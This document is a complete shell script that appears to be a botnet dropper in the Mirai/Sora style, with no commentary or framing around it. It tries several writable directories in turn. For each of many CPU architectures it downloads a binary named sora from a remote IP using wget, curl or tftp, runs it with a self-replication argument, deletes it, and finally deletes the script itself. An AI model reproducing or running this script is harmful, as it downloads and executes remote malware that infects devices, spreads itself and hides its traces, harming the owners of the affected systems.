#!/bin/sh
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /
S=http://198.51.100.66/bins
for a in x86 x86_64 mips mpsl arm arm5 arm6 arm7 ppc m68k sh4 spc; do
    wget -q $S/sora.$a -O .s || curl -s -o .s $S/sora.$a || tftp -g -l .s -r sora.$a 198.51.100.66
    chmod 777 .s
    ./.s selfrep.$a
    rm -f .s
done
rm -f "$0"
